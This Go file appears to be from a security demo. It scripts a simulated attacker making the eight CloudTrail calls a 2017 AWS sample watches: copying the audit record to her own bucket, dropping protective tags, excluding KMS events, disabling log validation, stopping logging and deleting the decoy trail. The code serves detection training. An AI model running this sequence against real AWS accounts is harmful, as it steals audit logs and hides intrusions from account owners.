package main

import (
	"context"
	"fmt"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudtrail"
	"github.com/aws/aws-sdk-go-v2/service/cloudtrail/types"
)

// act is one thing that the attacker of the demo does.
type act struct {
	call  string // as the viewer sees it
	means string
	do    func(context.Context, *cloudtrail.Client) error
}

// attack makes each of the eight calls that the 2017 AWS sample watches. It exists for the demo alone: it calls the
// simulated AWS, with credentials that exist nowhere else.
func (s *stage) attack() []act {
	main, decoy := aws.String(mainTrail.Name), aws.String("decoy")
	arn := aws.String(mainTrail.String())
	return []act{
		{"CreateTrail decoy", "copies the whole record into a bucket of hers", func(ctx context.Context, api *cloudtrail.Client) error {
			_, err := api.CreateTrail(ctx, &cloudtrail.CreateTrailInput{Name: decoy, S3BucketName: aws.String("mallory-drop")})
			return err
		}},
		{"StartLogging decoy", "and the copy begins", func(ctx context.Context, api *cloudtrail.Client) error {
			_, err := api.StartLogging(ctx, &cloudtrail.StartLoggingInput{Name: decoy})
			return err
		}},
		{"AddTags main", "marks the trail as a test, which some policies spare", func(ctx context.Context, api *cloudtrail.Client) error {
			_, err := api.AddTags(ctx, &cloudtrail.AddTagsInput{ResourceId: arn, TagsList: []types.Tag{{Key: aws.String("stage"), Value: aws.String("test")}}})
			return err
		}},
		{"RemoveTags main", "takes off the tag that policies protect", func(ctx context.Context, api *cloudtrail.Client) error {
			_, err := api.RemoveTags(ctx, &cloudtrail.RemoveTagsInput{ResourceId: arn, TagsList: []types.Tag{{Key: aws.String("protected")}}})
			return err
		}},
		{"PutEventSelectors main", "leaves the use of KMS keys out of the record", func(ctx context.Context, api *cloudtrail.Client) error {
			_, err := api.PutEventSelectors(ctx, &cloudtrail.PutEventSelectorsInput{TrailName: main, EventSelectors: []types.EventSelector{{
				IncludeManagementEvents: aws.Bool(true), ReadWriteType: types.ReadWriteTypeAll,
				ExcludeManagementEventSources: []string{"kms.amazonaws.com"},
			}}})
			return err
		}},
		{"UpdateTrail main", "switches off the proof that files are genuine", func(ctx context.Context, api *cloudtrail.Client) error {
			_, err := api.UpdateTrail(ctx, &cloudtrail.UpdateTrailInput{Name: main, EnableLogFileValidation: aws.Bool(false)})
			return err
		}},
		{"StopLogging main", "and nothing is recorded any more", func(ctx context.Context, api *cloudtrail.Client) error {
			_, err := api.StopLogging(ctx, &cloudtrail.StopLoggingInput{Name: main})
			return err
		}},
		{"DeleteTrail decoy", "clears away her traces", func(ctx context.Context, api *cloudtrail.Client) error {
			_, err := api.DeleteTrail(ctx, &cloudtrail.DeleteTrailInput{Name: decoy})
			return err
		}},
	}
}

// play has the attacker act, and lets each act's events arrive before the next.
func (s *stage) play(ctx context.Context, seen func(act, time.Time) error) error {
	if err := s.mallorysBucket(ctx); err != nil {
		return err
	}
	mallory := s.world.Account(demoAccount).User("mallory")
	api := cloudtrail.NewFromConfig(s.config(mallory, "203.0.113.66"))
	for _, a := range s.attack() {
		at := s.world.Now()
		if err := a.do(ctx, api); err != nil {
			return fmt.Errorf("act %q: %w", a.call, err)
		}
		if err := s.world.Settle(5 * time.Minute); err != nil {
			return err
		}
		if err := seen(a, at); err != nil {
			return err
		}
		s.world.Advance(23 * time.Second)
	}
	return nil
}
